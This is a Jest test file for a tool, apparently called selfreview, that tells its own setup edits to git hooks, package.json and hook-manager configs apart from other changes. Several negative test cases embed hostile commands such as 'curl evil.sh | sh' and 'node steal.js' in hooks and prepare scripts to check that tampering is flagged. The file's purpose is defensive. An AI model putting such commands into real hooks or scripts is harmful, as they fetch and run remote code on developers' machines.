import { describe, expect, test } from '@jest/globals';
import { buildBlock, HOOK_NAMES, HOOK_PREAMBLES, LEGACY_MARK } from '../../../src/core/setup/hook-block.js';
import { isSetupToolConfigEdit, lefthookLines, preCommitLines, simpleGitHooksCommand } from '../../../src/core/setup/tool-lines.js';
import { isSetupHookEdit, isSetupOnly, isSetupPackageEdit, markSetupFiles, SETUP_REASON } from '../../../src/core/setup/setup-files.js';
import type { FileChange } from '../../../src/core/change/staged-change.js';

// The setup commit is told from content alone: exactly our hook block, a new config, selfreview
// and husky in package.json. Anything else in those files is a change to review.

const block = buildBlock('pre-commit');
const pkg = (value: object) => `${JSON.stringify(value, null, 2)}\n`;

describe('isSetupHookEdit', () => {
  test("a new hook file: init's preamble and our block only", () => {
    expect(isSetupHookEdit('pre-commit', null, block)).toBe(true);
    expect(isSetupHookEdit('pre-commit', null, `${HOOK_PREAMBLES.husky}${block}`)).toBe(true);
    expect(isSetupHookEdit('pre-commit', null, `${HOOK_PREAMBLES.hooksDir}${block}`)).toBe(true);
    expect(isSetupHookEdit('pre-commit', null, `${HOOK_PREAMBLES.hooksDir}curl evil.sh | sh\n${block}`)).toBe(false);
  });

  test("an existing hook gains the block, before an exit or at the end; the user's lines unchanged", () => {
    expect(isSetupHookEdit('pre-commit', 'npx lint-staged', `npx lint-staged\n${block}`)).toBe(true);
    expect(isSetupHookEdit('pre-commit', 'echo hi\nexit 0\n', `echo hi\n${block}exit 0\n`)).toBe(true);
    expect(isSetupHookEdit('pre-commit', 'npx lint-staged\n', `npx lint-staged --verbose\n${block}`)).toBe(false);
    // An older install's marked line gives way to the block.
    expect(isSetupHookEdit('pre-commit', `npx lint-staged\n${LEGACY_MARK}\nnpx selfreview\n`, `npx lint-staged\n${block}`)).toBe(true);
  });

  test("another hook's block, an altered block, or a second marked block is not ours", () => {
    expect(isSetupHookEdit('commit-msg', null, block)).toBe(false);
    expect(isSetupHookEdit('pre-commit', null, block.replace('|| exit $?', '|| true'))).toBe(false);
    const forged = block.replace('if [ -f', 'curl evil.sh | sh\nif [ -f');
    expect(isSetupHookEdit('pre-commit', null, `${block}${forged}`)).toBe(false);
  });
});

describe('isSetupPackageEdit', () => {
  const before = { name: 'app', scripts: { test: 'jest' }, devDependencies: { jest: '^29.0.0' } };

  test('selfreview and husky added as devDependencies, a husky prepare script, the selfreview key', () => {
    const after = {
      ...before,
      scripts: { ...before.scripts, prepare: 'husky' },
      devDependencies: { husky: '^9.1.0', jest: '^29.0.0', selfreview: '^1.0.0' },
      selfreview: { budgets: { human: { lines: 300 } } },
    };
    expect(isSetupPackageEdit(pkg(before), pkg(after))).toBe(true);
    expect(isSetupPackageEdit(pkg({ name: 'app' }), pkg({ name: 'app', devDependencies: { selfreview: '1.0.0' } }))).toBe(true);
  });

  test('any other change, a layout-only change, or text that is not an object is reviewed', () => {
    const withScript = { ...before, scripts: { test: 'jest --coverage' }, devDependencies: { ...before.devDependencies, selfreview: '1' } };
    expect(isSetupPackageEdit(pkg(before), pkg(withScript))).toBe(false);
    const withDependency = { ...before, dependencies: { lodash: '4' }, devDependencies: { ...before.devDependencies, selfreview: '1' } };
    expect(isSetupPackageEdit(pkg(before), pkg(withDependency))).toBe(false);
    const otherPrepare = { ...before, scripts: { ...before.scripts, prepare: 'node steal.js && husky' } };
    expect(isSetupPackageEdit(pkg(before), pkg(otherPrepare))).toBe(false);
    expect(isSetupPackageEdit(pkg(before), JSON.stringify(before))).toBe(false);
    expect(isSetupPackageEdit(pkg(before), '[1]')).toBe(false);
    expect(isSetupPackageEdit('{ not json', pkg(before))).toBe(false);
  });
});

describe('markSetupFiles and isSetupOnly', () => {
  const file = (
    path: string,
    status: FileChange['status'],
    oldBlob: string,
    newBlob: string,
    excluded: string | null = null,
  ): FileChange => ({
    path,
    status,
    oldKind: status === 'added' ? 'none' : 'file',
    newKind: 'file',
    oldBlob,
    newBlob,
    added: 3,
    removed: 0,
    binary: false,
    modeOnly: false,
    excluded,
  });
  const texts = new Map([
    ['h1', block],
    ['c1', '{}\n'],
    ['p0', pkg({ name: 'app' })],
    ['p1', pkg({ name: 'app', devDependencies: { selfreview: '1.0.0' } })],
    ['r1', block],
  ]);

  test('hooks in a folder, a new root config and package.json are marked; a root file named pre-commit is not', () => {
    const marked = markSetupFiles(
      [
        file('.husky/pre-commit', 'added', '0', 'h1'),
        file('.selfreviewrc.json', 'added', '0', 'c1'),
        file('package.json', 'modified', 'p0', 'p1'),
        file('package-lock.json', 'modified', 'l0', 'l1', 'lock file'),
        file('pre-commit', 'added', '0', 'r1'),
      ],
      texts,
    );
    expect(marked.map((f) => f.excluded)).toEqual([SETUP_REASON, SETUP_REASON, SETUP_REASON, 'lock file', null]);
    expect(isSetupOnly(marked.slice(0, 4))).toBe(true);
    expect(isSetupOnly(marked)).toBe(false);
    expect(isSetupOnly([file('package-lock.json', 'modified', 'l0', 'l1', 'lock file')])).toBe(false);
  });

  test('a config that already existed, or a missing blob, stays counted', () => {
    const marked = markSetupFiles(
      [file('.selfreviewrc.json', 'modified', 'c0', 'c1'), file('.husky/pre-commit', 'added', '0', 'gone')],
      texts,
    );
    expect(marked.map((f) => f.excluded)).toEqual([null, null]);
  });
});

// A hook manager's config gains the lines `init` prints (mswjs/interceptors keeps simple-git-hooks'
// in a module, with commitizen and commitlint in it), read back from the text alone.
describe('isSetupToolConfigEdit', () => {
  const interceptors = [
    'export default {',
    "  'prepare-commit-msg': `grep -qE '^[^#]' .git/COMMIT_EDITMSG || (exec < /dev/tty && pnpm cz --hook || true)`,",
    "  'commit-msg': 'pnpm commitlint --edit $1',",
    '}',
    '',
  ].join('\n');
  const printed = (own: Record<string, string>, extra = '') =>
    [
      'export default {',
      ...HOOK_NAMES.map((name) => {
        const ours = simpleGitHooksCommand(name);
        return `  ${JSON.stringify(name)}: ${JSON.stringify(own[name] ? `${own[name]} && ${ours}` : ours)},`;
      }),
      extra,
      '}',
      '',
    ].join('\n');
  const own = {
    'prepare-commit-msg': "grep -qE '^[^#]' .git/COMMIT_EDITMSG || (exec < /dev/tty && pnpm cz --hook || true)",
    'commit-msg': 'pnpm commitlint --edit $1',
  };

  test("simple-git-hooks.js: each command of the project's first, ours after it; ours alone in a new file", () => {
    expect(isSetupToolConfigEdit(interceptors, printed(own))).toBe(true);
    expect(isSetupToolConfigEdit(null, printed({}))).toBe(true);
    expect(isSetupToolConfigEdit(interceptors, interceptors)).toBe(false);
  });

  test('a changed command, a command slipped before ours, or another key is reviewed', () => {
    expect(isSetupToolConfigEdit(interceptors, printed({ ...own, 'commit-msg': 'pnpm commitlint --edit $1 --strict' }))).toBe(false);
    expect(isSetupToolConfigEdit(null, printed({ 'pre-commit': 'curl evil.sh | sh' }))).toBe(false);
    expect(isSetupToolConfigEdit(interceptors, printed(own, "  'pre-push': 'pnpm test',"))).toBe(false);
  });

  test("lefthook.yml and .pre-commit-config.yaml gain init's printed lines", () => {
    const lefthook = 'pre-push:\n  commands:\n    test:\n      run: npm test\n';
    expect(isSetupToolConfigEdit(lefthook, `${lefthook}${lefthookLines()}\n`)).toBe(true);
    expect(isSetupToolConfigEdit(lefthook, `${lefthook}${lefthookLines().replace('interactive: true', 'interactive: false')}\n`)).toBe(
      false,
    );
    expect(isSetupToolConfigEdit(null, `${preCommitLines((name) => name)}\n`)).toBe(true);
    expect(isSetupToolConfigEdit(null, `${preCommitLines((name) => name).replace('language: system', 'language: node')}\n`)).toBe(false);
  });

  test("package.json's simple-git-hooks key: the project's command first, ours after it", () => {
    const before = { name: 'app', 'simple-git-hooks': { 'pre-commit': 'npx lint-staged', 'pre-push': 'npm test' } };
    const after = {
      ...before,
      devDependencies: { selfreview: '^0.1.0' },
      'simple-git-hooks': {
        'pre-commit': `npx lint-staged && ${simpleGitHooksCommand('pre-commit')}`,
        'commit-msg': simpleGitHooksCommand('commit-msg'),
        'pre-push': 'npm test',
      },
    };
    expect(isSetupPackageEdit(pkg(before), pkg(after))).toBe(true);
    const slipped = { ...after, 'simple-git-hooks': { ...after['simple-git-hooks'], 'pre-push': 'npm test && curl evil.sh' } };
    expect(isSetupPackageEdit(pkg(before), pkg(slipped))).toBe(false);
  });
});
